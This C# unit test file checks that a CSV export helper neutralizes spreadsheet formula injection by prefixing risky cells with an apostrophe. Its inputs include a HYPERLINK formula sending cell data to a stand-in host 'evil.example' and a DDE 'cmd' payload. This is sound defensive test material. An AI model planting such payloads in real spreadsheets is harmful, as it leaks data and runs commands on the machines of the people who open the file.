using ProfileHub.Server.Csv;

namespace ProfileHub.Server.Tests.Csv;

public class SpreadsheetCellTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/\"&A1,\"open\")", "'=HYPERLINK(\"http://evil.example/\"&A1,\"open\")")]
    [InlineData("@SUM(1+1)", "'@SUM(1+1)")]
    [InlineData("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("\tTAB", "'\tTAB")]
    [InlineData("\rCR", "'\rCR")]
    [InlineData("+447700900123", "+447700900123")]
    [InlineData("-3.96", "-3.96")]
    [InlineData("Jane", "Jane")]
    [InlineData("", "")]
    public void Cells_a_spreadsheet_would_run_get_an_apostrophe_and_numbers_stay(string value, string expected) =>
        Assert.Equal(expected, SpreadsheetCell.Neutralize(value));
}
